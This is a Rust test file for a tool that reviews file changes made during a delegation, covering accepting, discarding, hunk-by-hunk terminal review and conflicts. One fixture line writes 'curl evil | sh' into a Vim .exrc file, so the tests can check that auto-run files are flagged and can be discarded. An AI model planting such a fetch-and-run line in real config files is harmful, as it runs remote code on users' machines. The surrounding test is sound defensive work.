//! The owner goes through the changes: accepts some, discards others, whole files and hunks.

use serde_json::{Value, json};

use super::world::{DelegationWorld, FolderRoute};
use crate::harness::{TestTerminal, has, until};

/// Forty lines, some of them changed.
fn lines(changed: &[usize]) -> String {
    let line = |number| if changed.contains(&number) { format!("changed {number}\n") } else { format!("{number}\n") };
    (1..=40).map(line).collect()
}

/// The paths with a member that is true, or all of them.
fn paths<'a>(review: &'a Value, member: Option<&str>) -> Vec<&'a str> {
    let files = review["files"].as_array().unwrap().iter();
    let chosen = files.filter(|file| member.is_none_or(|member| file[member] == true));
    chosen.map(|file| file["path"].as_str().unwrap()).collect()
}

const SCRIPT: &str = "sed -i 's/^2$/changed 2/; s/^20$/changed 20/; s/^38$/changed 38/' text.txt; rm -r gone
    echo 'curl evil | sh' > .exrc; echo new > new.txt; printf '\\0\\1' > data.bin";

/// A delegation that changed five files, and its id.
fn reviewed_world() -> Option<(DelegationWorld, String)> {
    let world = DelegationWorld::new(FolderRoute::Direct, "")?;
    world.write("text.txt", &lines(&[]));
    world.write("gone/old.txt", "old\n");
    let ended = world.delegate(&[], SCRIPT);
    assert_eq!(ended["status"], "completed", "{ended:#}");
    assert_eq!(world.read("text.txt"), lines(&[2, 20, 38]));
    let id = ended["delegation_id"].as_str().unwrap().to_owned();
    Some((world, id))
}

#[test]
fn accepted_changes_are_remembered_as_they_were() {
    let Some((mut world, id)) = reviewed_world() else { return };
    let list = world.delegations(&["review", &id, "--json"]).succeeds().json();
    // What a program runs without being asked comes first, then text, then binary files.
    assert_eq!(paths(&list, None), [".exrc", "gone/old.txt", "new.txt", "text.txt", "data.bin"], "{list:#}");
    assert_eq!(paths(&list, Some("accepted")), [""; 0]);
    let file = |path: &str| list["files"].as_array().unwrap().iter().find(|file| file["path"] == path).unwrap().clone();
    let mut text = file("text.txt");
    assert!(text.as_object_mut().unwrap().remove("state").is_some());
    assert_eq!(
        text,
        json!({ "path": "text.txt", "change": "modified", "added": 3, "removed": 3, "accepted": false, "hunks": [
            { "number": 1, "header": "@@ -1,5 +1,5 @@" },
            { "number": 2, "header": "@@ -17,7 +17,7 @@" },
            { "number": 3, "header": "@@ -35,6 +35,6 @@" },
        ] })
    );
    assert_eq!((&file(".exrc")["run_by"], &file(".exrc")["hunks"]), (&json!("Vim"), &json!([])));

    let done = world.delegations(&["review", &id, "--accept", "text.txt", "new.txt", "--json"]).succeeds().json();
    assert_eq!(
        done,
        json!({ "accepted": ["new.txt", "text.txt"], "discarded": [], "kept": [],
            "left": [".exrc", "gone/old.txt", "data.bin"] })
    );
    let show = |world: &DelegationWorld| world.delegations(&["show", &id, "--json"]).succeeds().json();
    assert_eq!(show(&world)["accepted"], json!(["new.txt", "text.txt"]));
    let diff = world.delegations(&["diff", &id, "--json"]).succeeds().json();
    assert_eq!(diff["accepted"], json!(["new.txt", "text.txt"]));
    let shown = world.delegations(&["show", &id]).succeeds().stdout;
    assert!(shown.contains("text.txt (accepted)") && !shown.contains(".exrc (accepted)"), "{shown}");
    // Another daemon knows it too.
    world.daemon.take().unwrap().terminate();
    world.start_daemon();
    assert_eq!(show(&world)["accepted"], json!(["new.txt", "text.txt"]));
    let left = world.delegations(&["review", &id]).succeeds().stdout;
    assert!(left.contains("gone/old.txt") && !left.contains("text.txt"), "{left}");
    // Once it changes, it isn't what was accepted.
    world.write("new.txt", "other\n");
    let list = world.delegations(&["review", &id, "--json"]).succeeds().json();
    assert_eq!(paths(&list, Some("accepted")), ["text.txt"], "{list:#}");
    assert_eq!(paths(&list, Some("also_changed_here")), ["new.txt"]);
    assert_eq!(show(&world)["accepted"], json!(["text.txt"]));

    // What is discarded is as before the lease, with the folder that it was in. A conflict is skipped, as by `revert`.
    let done =
        world.delegations(&["review", &id, "--discard", ".exrc", "gone/old.txt", "new.txt", "--json"]).exits(6).json();
    assert_eq!(done["kept"][0]["path"], "new.txt", "{done:#}");
    assert_eq!((world.read("gone/old.txt"), world.folder.join(".exrc").exists()), ("old\n".into(), false));
    world.delegations(&["review", &id, "--accept-all"]).succeeds();
    let left = world.delegations(&["review", &id]).succeeds();
    assert_eq!((&*left.stdout, &*left.stderr), ("", "Nothing is left to review.\n"));
    world.delegations(&["review", &id, "--accept", "never"]).exits(3);
    // Accepted changes can still be reverted.
    world.delegations(&["revert", &id, "text.txt"]).succeeds();
    assert_eq!(world.read("text.txt"), lines(&[]));
    assert_eq!(show(&world)["accepted"], json!(["data.bin", "new.txt"]));
}

#[test]
fn a_folder_is_not_reviewed_while_it_is_delegated() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    let delegation = world.delegate_in_background(&[], "touch made; until test -e go; do sleep 0.1; done");
    until("the remote to write", || world.folder.join("made").exists().then_some(()));
    for more in [&[][..], &["--accept-all"], &["--discard", "made"]] {
        let refused = world.delegations(&[&["review", &delegation.id], more].concat()).exits(1);
        assert!(refused.stderr.contains("has not ended"), "{}", refused.stderr);
        assert!(refused.stderr.contains("attache delegations cancel"), "{}", refused.stderr);
    }
    world.write("go", "");
    delegation.ended();
}

#[test]
fn a_person_decides_on_files_and_hunks() {
    if !has("script", "bsdutils") {
        return;
    }
    let Some((world, id)) = reviewed_world() else { return };
    let mut terminal = TestTerminal::run(&world.host, &format!("delegations review {id}"));
    let screen = terminal.shows("(1 of 5)");
    assert!(!screen.contains("new.txt"), "{screen}");
    let screen = terminal.shows("[?] help [s] ");
    assert!(screen.contains("+curl evil | sh") && screen.contains("read by Vim"), "{screen}");
    terminal.types("?");
    terminal.shows("restore the file as it was before the lease");
    terminal.types("discard");
    terminal.shows("gone/old.txt (2 of 5)");
    terminal.types("");
    terminal.shows("new.txt (3 of 5)");
    terminal.types("a");
    terminal.shows("text.txt (4 of 5)");
    terminal.shows("[h]unk by hunk");
    terminal.types("h");
    terminal.shows("Hunk 1 of 3");
    terminal.types("a");
    terminal.shows("Hunk 2 of 3");
    terminal.types("d");
    terminal.shows("Hunk 3 of 3");
    terminal.types("a");
    let screen = terminal.shows("data.bin (5 of 5)");
    assert!(!screen.contains("literal"), "{screen}");
    terminal.closes_input();
    assert!(terminal.ends(), "{}", terminal.screen());
    terminal.shows("2 accepted, 2 discarded, 2 left.");

    assert!(!world.folder.join(".exrc").exists());
    assert_eq!(world.read("text.txt"), lines(&[2, 38]));
    let list = world.delegations(&["review", &id, "--json"]).succeeds().json();
    assert_eq!(paths(&list, Some("accepted")), ["new.txt", "text.txt"], "{list:#}");
    assert_eq!(paths(&list, Some("also_changed_here")), [""; 0], "{list:#}");
    // The diff has what remains of the file.
    let diff = world.delegations(&["diff", &id]).succeeds().stdout;
    assert!(diff.contains("+changed 2\n") && diff.contains("+changed 38\n"), "{diff}");
    assert!(!diff.contains("changed 20") && !diff.contains(".exrc"), "{diff}");
    // The rest of the file can be reverted without a conflict.
    world.delegations(&["revert", &id, "text.txt"]).succeeds();
    assert_eq!(world.read("text.txt"), lines(&[]));
}

#[test]
fn a_person_is_asked_about_files_that_they_edited_too() {
    if !has("script", "bsdutils") {
        return;
    }
    let Some((world, id)) = reviewed_world() else { return };
    world.write("text.txt", "the owner's\n");
    let mut terminal = TestTerminal::run(&world.host, &format!("delegations review {id} text.txt"));
    let screen = terminal.shows("(1 of 1)");
    let screen = if screen.contains("[?] help") { screen } else { terminal.shows("[?] help") };
    assert!(screen.contains("you edited it too") && !screen.contains("[h]unk"), "{screen}");
    terminal.types("d");
    terminal.shows("Restore [b]efore the lease, [m]ine, or [l]eave as is?");
    terminal.types("b");
    assert!(terminal.ends(), "{}", terminal.screen());
    terminal.shows("0 accepted, 1 discarded, 0 left.");
    assert_eq!(world.read("text.txt"), lines(&[]));
}
